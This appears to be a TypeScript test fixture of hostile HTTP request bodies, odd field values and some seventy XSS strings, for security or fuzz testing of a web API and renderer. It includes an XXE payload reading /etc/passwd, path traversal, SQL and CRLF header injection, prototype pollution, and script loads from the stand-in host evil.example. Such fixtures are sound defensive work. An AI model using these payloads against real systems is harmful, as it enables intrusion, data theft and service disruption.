/** A raw request body with the headers that describe it. */
export type HostileBody = { name: string; body: BodyInit; headers: Record<string, string> }

const json = { 'content-type': 'application/json' }
const utf16 = (text: string): Uint8Array<ArrayBuffer> =>
  new Uint8Array(Buffer.from(text, 'utf16le'))

/** Bodies that no well-meaning client sends. */
export const HOSTILE_BODIES: readonly HostileBody[] = [
  { name: 'huge', body: `{"question":"${'x'.repeat(5 * 1024 * 1024)}"}`, headers: json },
  { name: 'said to be huge', body: '{}', headers: { ...json, 'content-length': '99999999999' } },
  { name: 'deep lists', body: '['.repeat(100_000) + ']'.repeat(100_000), headers: json },
  { name: 'deep objects', body: '{"a":'.repeat(20_000) + '1' + '}'.repeat(20_000), headers: json },
  { name: 'wide', body: `{"ids":[${'1,'.repeat(200_000)}1]}`, headers: json },
  {
    name: 'many names',
    body: `{${Array.from({ length: 50_000 }, (_, index) => `"k${index}":1`).join(',')}}`,
    headers: json
  },
  { name: 'cut off in a text', body: '{"question":"h', headers: json },
  { name: 'cut off in a name', body: '{"ques', headers: json },
  { name: 'cut off in an escape', body: String.raw`{"question":"\ud8`, headers: json },
  {
    name: 'not UTF-8',
    body: Uint8Array.of(0x7b, 0x22, 0xff, 0xfe, 0x22, 0x3a, 0x31, 0x7d),
    headers: json
  },
  {
    name: 'UTF-16',
    body: utf16('{"question":"hi"}'),
    headers: { 'content-type': 'application/json; charset=utf-16' }
  },
  { name: 'an overlong sign', body: Uint8Array.of(0x22, 0xc0, 0xaf, 0x22), headers: json },
  { name: 'a NUL byte', body: '{"question":"a\0b"}', headers: json },
  { name: 'nothing but NULs', body: '\0\0\0\0', headers: json },
  {
    name: 'XML',
    body: '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
    headers: { 'content-type': 'text/xml' }
  },
  {
    name: 'packed, as it says',
    body: Uint8Array.of(0x1f, 0x8b, 8, 0, 1, 2, 3),
    headers: { ...json, 'content-encoding': 'gzip' }
  },
  {
    name: 'a broken form',
    body: '%00=%ff&a=%zz&__proto__[x]=1&a[b]=1&=&&',
    headers: { 'content-type': 'application/x-www-form-urlencoded' }
  },
  {
    name: 'parts without a boundary',
    body: '--x\r\n',
    headers: { 'content-type': 'multipart/form-data' }
  },
  {
    name: 'parts that do not end',
    body: '--x\r\ncontent-disposition: form-data; name="file"; filename="a\0b"\r\n\r\nhi',
    headers: { 'content-type': 'multipart/form-data; boundary=x' }
  },
  {
    name: 'a part with a hostile name',
    body: '--x\r\ncontent-disposition: form-data; name="file"; filename="..%2f..\\\\%00<svg onload=alert(1)>.png"\r\ncontent-type: text/html\r\n\r\n<script>alert(1)</script>\r\n--x--\r\n',
    headers: { 'content-type': 'multipart/form-data; boundary=x' }
  },
  { name: 'no kind at all', body: '{"action":"sing"}', headers: { 'content-type': '' } },
  {
    name: 'a strange kind',
    body: '{}',
    headers: { 'content-type': `application/json; ${'x'.repeat(4000)}` }
  },
  { name: 'a list', body: '[]', headers: json },
  { name: 'null', body: 'null', headers: json },
  { name: 'a number beyond all numbers', body: '1e999', headers: json },
  { name: 'a text', body: '"text"', headers: json },
  { name: 'not a number', body: 'NaN', headers: json },
  { name: 'two documents', body: '{}{}', headers: json },
  {
    name: 'names twice',
    body: '{"id":"a","id":"b","action":"chat","action":"delete","email":"a@b.example","email":7}',
    headers: json
  },
  {
    name: 'a prototype',
    body: '{"__proto__":{"admin":true,"userId":"x"},"constructor":{"prototype":{"admin":true}},"action":"__proto__"}',
    headers: json
  },
  {
    name: 'names of every object',
    body: '{"toString":1,"hasOwnProperty":1,"valueOf":null,"length":-1,"then":1,"action":"toString"}',
    headers: json
  }
]

/** Field values that a parser may not expect. */
export const HOSTILE_VALUES: readonly unknown[] = [
  '\0',
  'a\0b',
  '\ud800',
  'a\udfffb',
  '\ufeff',
  '\u202e\u2066',
  '',
  ' ',
  '\r\nset-cookie: a=b',
  '%00',
  '../../etc/passwd',
  "' or 1=1 --",
  '${7*7}',
  '{{7*7}}',
  'x'.repeat(70),
  'x'.repeat(3000),
  '\u{1f600}'.repeat(500),
  'NaN',
  '1e309',
  '-1',
  '9007199254740993',
  '99999999999999999999',
  '1.5',
  '0x10',
  '__proto__',
  'constructor',
  Number.MAX_VALUE,
  -1,
  0.5,
  2 ** 31,
  2 ** 53,
  2 ** 63,
  -0,
  true,
  null,
  [],
  [[]],
  ['\0'],
  {},
  { '\0': 1 },
  { toString: 1 }
]

/** Texts that become a script, a request or a trap when treated as HTML, an address or code. */
export const XSS: readonly string[] = [
  '<script>alert(1)</script>',
  '</script><script>alert(2)</script>',
  '<ScRiPt/x>alert(3)</sCrIpT >',
  '<script src=https://evil.example/x.js></script>',
  '<img src=x onerror=alert(5)>',
  '<img src="x" onerror="alert(6)" />',
  '"><img src=x onerror=alert(7)>',
  "'><img src=x onerror=alert(8)>",
  '<img src=https://evil.example/pixel.png>',
  '<img/src/onerror=alert(10)>',
  '<image xlink:href=x onerror=alert(11)>',
  '<svg onload=alert(12)>',
  '<svg><script>alert(13)</script></svg>',
  '<svg><animate onbegin=alert(14) attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:alert(15)"><text y=20>x</text></a></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>alert(16)</script></svg>#x"></use></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(17)>',
  '<math href="javascript:alert(18)">x</math>',
  '<body onload=alert(19)>',
  '<iframe src="javascript:alert(20)"></iframe>',
  '<iframe srcdoc="<script>parent.alert(21)</script>"></iframe>',
  '<object data="data:text/html,<script>alert(22)</script>"></object>',
  '<embed src="https://evil.example/x.swf">',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<style>@import "https://evil.example/x.css";*{display:none}</style>',
  '<div style="background:url(https://evil.example/x.png)">x</div>',
  '<form action="javascript:alert(29)"><button>go</button></form>',
  '<input autofocus onfocus=alert(30)>',
  '<select autofocus onfocus=alert(31)>',
  '<details open ontoggle=alert(32)>',
  '<video><source onerror=alert(33)></video>',
  '<audio src=x onerror=alert(34)>',
  '<marquee onstart=alert(35)>x</marquee>',
  '<a href="javascript:alert(36)">click</a>',
  '<button popovertarget=x onbeforetoggle=alert(37)>x</button>',
  '<template><script>alert(38)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(39)>">',
  '<textarea><img title="</textarea><img src=x onerror=alert(40)>">',
  '<title><img title="</title><img src=x onerror=alert(41)>">',
  '<!--><img src=x onerror=alert(42)>-->',
  '<![CDATA[><img src=x onerror=alert(43)>]]>',
  '<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(44)</x:script>',
  '<astro-island component-url="https://evil.example/x.js" client="load" opts="{}" ssr></astro-island>',
  '[click](javascript:alert(46))',
  '[click](JaVaScRiPt:alert(47))',
  '[click](&#106;avascript:alert(48))',
  '[click](java&#x0A;script:alert(49))',
  '[click](\u0001javascript:alert(50))',
  '[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[click](vbscript:msgbox(52))',
  '[click](https://evil.example/"onmouseover="alert(53))',
  '![x](https://evil.example/pixel.png)',
  '![x](javascript:alert(55))',
  '![x"onerror="alert(56)](x)',
  '[x]: javascript:alert(57)\n\n[x]',
  '<javascript:alert(58)>',
  '<https://evil.example/"onclick=alert(59)>',
  '```html"><script>alert(60)</script>\n<script>alert(60)</script>\n```',
  '`</code><script>alert(61)</script>`',
  '$\\href{javascript:alert(62)}{x}$',
  '$$\\url{javascript:alert(63)} \\includegraphics{https://evil.example/x.png}$$',
  '| a |\n|---|\n| <img src=x onerror=alert(64)> |',
  '&lt;script&gt;alert(65)&lt;/script&gt;',
  '\\u003cscript\\u003ealert(66)\\u003c/script\\u003e',
  '+ADw-script+AD4-alert(67)+ADw-/script+AD4-',
  '{{constructor.constructor("alert(68)")()}}',
  '${alert(69)}',
  '");alert(70);//',
  '\u2028alert(71)//',
  'javascript:alert(72)',
  '//evil.example/%0aalert(73)'
]
